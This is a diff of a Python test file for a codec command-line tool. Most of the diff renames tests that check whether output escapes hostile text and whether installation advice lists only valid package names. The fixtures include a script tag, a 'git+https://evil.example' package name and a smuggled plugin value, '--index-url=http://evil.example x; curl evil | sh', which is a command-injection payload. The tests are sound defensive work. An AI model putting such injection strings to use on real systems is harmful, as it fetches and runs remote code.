@@ -144,7 +144,7 @@ def folder(tmp_path: Path) -> Path:
     return tmp_path
 
 
-def test_evaluate_compare_and_the_report(command: Command, folder: Path) -> None:
+def test_evaluate_compare_and_report_escape_text(command: Command, folder: Path) -> None:
     common = ("--split", "all", "--metrics", "hostile,failing", "--plugin", "./hostile.py")
     code, out, err = command("evaluate", "codec", "manifest.jsonl", *common, "--out", "out")
     assert code in (0, 1), err
@@ -163,7 +163,7 @@ def test_evaluate_compare_and_the_report(command: Command, folder: Path) -> None
     command("compare", "codec", "--data", "manifest.jsonl", *common, "--json")
 
 
-def test_coding_and_tokens(command: Command, folder: Path) -> None:
+def test_coding_and_tokens_escape_text(command: Command, folder: Path) -> None:
     assert command("encode", "codec", "recordings", "--out", "small")[0] == 1
     assert command("encode", "codec", "recordings", "--out", "small", "--json")[0] == 1
     assert command("decode", "codec", "small", "--out", "back")[0] == 0
@@ -178,7 +178,7 @@ def test_coding_and_tokens(command: Command, folder: Path) -> None:
     command("encode", f"./{NASTY}", "recordings", "--out", "small")
 
 
-def test_recipes_and_trainings(command: Command, folder: Path) -> None:
+def test_recipes_and_training_escape_text(command: Command, folder: Path) -> None:
     code, out, _ = command("recipes", "show", "hostile.yaml")
     assert code == 0
     assert "<script>" in out
@@ -207,7 +207,7 @@ def test_plugins(command: Command, folder: Path) -> None:
     assert command("plugins", "list", "--plugin", NASTY)[0] == 2
 
 
-def test_logs_warnings_progress_and_tables(capsys: pytest.CaptureFixture[str]) -> None:
+def test_logs_warnings_progress_and_tables_escape_text(capsys: pytest.CaptureFixture[str]) -> None:
     with warnings.catch_warnings():
         log_to_stderr()
         logging.getLogger("codecvq").warning("%s\nerror: made up", NASTY)
@@ -238,12 +238,12 @@ def test_logs_warnings_progress_and_tables(capsys: pytest.CaptureFixture[str]) -
         ("git+https://evil.example/x", "not a valid package name"),
     ],
 )
-def test_advice_to_install_repeats_names_of_packages_only(name: str, said: str) -> None:
+def test_installation_advice_contains_only_valid_package_names(name: str, said: str) -> None:
     assert said in install_advice(name)
     assert ("pip install" in install_advice(name)) == ("pip install" in said)
 
 
-def test_a_codec_cannot_give_commands(command: Command, folder: Path) -> None:
+def test_a_codec_cannot_add_commands_to_installation_advice(command: Command, folder: Path) -> None:
     config = json.loads((folder / "codec/config.json").read_text())
     config["quantizer"]["name"] = config["plugins"]["quantizer"]["name"] = "their_vq"
     config["plugins"]["quantizer"] |= {"plugin": "--index-url=http://evil.example x; curl evil | sh"}
